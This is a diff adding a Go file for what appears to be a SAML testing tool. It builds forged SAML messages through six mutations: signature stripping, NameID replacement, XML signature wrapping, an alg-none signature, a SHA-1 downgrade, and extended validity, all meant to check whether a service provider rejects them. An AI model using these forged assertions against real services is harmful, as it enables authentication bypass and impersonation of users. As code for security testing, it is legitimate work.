@@ -0,0 +1,220 @@
+package saml
+
+import (
+	"errors"
+	"fmt"
+	"strings"
+	"time"
+
+	"github.com/beevik/etree"
+)
+
+// Tamper mutations
+const (
+	MutationStripSignature = "strip-signature"
+	MutationNameID         = "nameid"
+	MutationXSW            = "xsw"
+	MutationAlgNone        = "alg-none"
+	MutationAlgSHA1        = "alg-sha1"
+	MutationExtendValidity = "extend-validity"
+)
+
+// ErrNotApplicable is returned by Tamper when a message has nothing the
+// mutation could change, e.g. stripping the signature of an unsigned one
+var ErrNotApplicable = errors.New("mutation does not apply to this message")
+
+// TamperMutation describes a built-in mutation
+type TamperMutation struct {
+	Name        string `json:"name"`
+	Description string `json:"description"`
+}
+
+// TamperOptions holds the values mutations put into a message
+type TamperOptions struct {
+	// NameID replaces the subject for the nameid and xsw mutations
+	NameID string
+
+	// Extend is added to the validity windows by extend-validity
+	Extend time.Duration
+}
+
+// tamperMutations are the built-in mutations, in the order they are
+// listed. Each one changes the message in a way a correct SP rejects.
+var tamperMutations = []struct {
+	TamperMutation
+	apply func(root *etree.Element, opts TamperOptions) error
+}{
+	{TamperMutation{MutationStripSignature, "Remove every signature, leaving the message unsigned"}, stripSignatures},
+	{TamperMutation{MutationNameID, "Replace the NameID of each assertion, breaking its signature"}, replaceNameIDs},
+	{TamperMutation{MutationXSW, "Insert an unsigned copy with another NameID before the signed assertion (signature wrapping)"}, wrapSignedAssertion},
+	{TamperMutation{MutationAlgNone, `Set the signature algorithm to "none" and empty the signature value`}, algorithmNone},
+	{TamperMutation{MutationAlgSHA1, "Declare SHA-1 as the signature and digest algorithm without re-signing"}, algorithmSHA1},
+	{TamperMutation{MutationExtendValidity, "Push back NotOnOrAfter and SessionNotOnOrAfter, breaking the signature"}, extendValidity},
+}
+
+// TamperMutations returns the built-in mutations
+func TamperMutations() []TamperMutation {
+	mutations := make([]TamperMutation, len(tamperMutations))
+	for i, m := range tamperMutations {
+		mutations[i] = m.TamperMutation
+	}
+	return mutations
+}
+
+// Tamper applies the named mutation to a copy of a SAML message, producing
+// a payload for testing how strictly an SP validates what it receives.
+// Signatures are never recomputed. It returns ErrNotApplicable if the
+// message has nothing the mutation could change.
+func Tamper(xmlData []byte, mutation string, opts TamperOptions) ([]byte, error) {
+	var apply func(*etree.Element, TamperOptions) error
+	for _, m := range tamperMutations {
+		if m.Name == mutation {
+			apply = m.apply
+		}
+	}
+	if apply == nil {
+		var names []string
+		for _, m := range tamperMutations {
+			names = append(names, m.Name)
+		}
+		return nil, fmt.Errorf("unknown mutation %q (available: %s)", mutation, strings.Join(names, ", "))
+	}
+
+	doc, err := ReadDocument(xmlData)
+	if err != nil {
+		return nil, &ErrParse{Stage: "XML", Err: err}
+	}
+	if doc.Root() == nil {
+		return nil, errors.New("no root element")
+	}
+	if err := apply(doc.Root(), opts); err != nil {
+		return nil, err
+	}
+	tampered, err := doc.WriteToBytes()
+	if err != nil {
+		return nil, fmt.Errorf("failed to serialize XML: %w", err)
+	}
+	return tampered, nil
+}
+
+// findElements returns el and its descendants with the given namespace and
+// local name, in document order
+func findElements(el *etree.Element, namespace, local string) []*etree.Element {
+	var found []*etree.Element
+	walkElements(el, func(e *etree.Element) {
+		if isElement(e, namespace, local) {
+			found = append(found, e)
+		}
+	})
+	return found
+}
+
+func stripSignatures(root *etree.Element, _ TamperOptions) error {
+	signatures := findElements(root, XMLDSigNamespace, "Signature")
+	if len(signatures) == 0 {
+		return ErrNotApplicable
+	}
+	for _, sig := range signatures {
+		sig.Parent().RemoveChild(sig)
+	}
+	return nil
+}
+
+func replaceNameIDs(root *etree.Element, opts TamperOptions) error {
+	nameIDs := findElements(root, SAMLNamespace, "NameID")
+	if len(nameIDs) == 0 {
+		return ErrNotApplicable
+	}
+	for _, nameID := range nameIDs {
+		nameID.SetText(opts.NameID)
+	}
+	return nil
+}
+
+// wrapSignedAssertion performs signature wrapping: an SP that verifies the
+// signed assertion by ID but consumes the first one reads the forged copy
+func wrapSignedAssertion(root *etree.Element, opts TamperOptions) error {
+	if !isElement(root, SAMLPNamespace, "Response") {
+		return ErrNotApplicable
+	}
+	var signed *etree.Element
+	for _, child := range root.ChildElements() {
+		if isElement(child, SAMLNamespace, "Assertion") && hasSignature(child) {
+			signed = child
+			break
+		}
+	}
+	if signed == nil {
+		return ErrNotApplicable
+	}
+
+	id, err := NewID()
+	if err != nil {
+		return err
+	}
+	// The copy is inserted first, so its prefixes resolve against the
+	// Response
+	forged := signed.Copy()
+	root.InsertChildAt(signed.Index(), forged)
+	forged.CreateAttr("ID", id)
+	_ = stripSignatures(forged, opts)
+	_ = replaceNameIDs(forged, opts)
+	return nil
+}
+
+func algorithmNone(root *etree.Element, _ TamperOptions) error {
+	methods := findElements(root, XMLDSigNamespace, "SignatureMethod")
+	if len(methods) == 0 {
+		return ErrNotApplicable
+	}
+	for _, method := range methods {
+		method.CreateAttr("Algorithm", "none")
+	}
+	for _, value := range findElements(root, XMLDSigNamespace, "SignatureValue") {
+		value.SetText("")
+	}
+	return nil
+}
+
+func algorithmSHA1(root *etree.Element, _ TamperOptions) error {
+	methods := findElements(root, XMLDSigNamespace, "SignatureMethod")
+	if len(methods) == 0 {
+		return ErrNotApplicable
+	}
+	for _, method := range methods {
+		alg := SigAlgRSASHA1
+		if strings.Contains(method.SelectAttrValue("Algorithm", ""), "ecdsa") {
+			alg = "http://www.w3.org/2001/04/xmldsig-more#ecdsa-sha1"
+		}
+		method.CreateAttr("Algorithm", alg)
+	}
+	for _, method := range findElements(root, XMLDSigNamespace, "DigestMethod") {
+		method.CreateAttr("Algorithm", DigestSHA1)
+	}
+	return nil
+}
+
+func extendValidity(root *etree.Element, opts TamperOptions) error {
+	changed := false
+	walkElements(root, func(el *etree.Element) {
+		if el.NamespaceURI() == XMLDSigNamespace {
+			return
+		}
+		for _, key := range []string{"NotOnOrAfter", "SessionNotOnOrAfter"} {
+			attr := el.SelectAttr(key)
+			if attr == nil {
+				continue
+			}
+			t, err := time.Parse(time.RFC3339, attr.Value)
+			if err != nil {
+				continue
+			}
+			el.CreateAttr(key, t.Add(opts.Extend).UTC().Format(time.RFC3339))
+			changed = true
+		}
+	})
+	if !changed {
+		return ErrNotApplicable
+	}
+	return nil
+}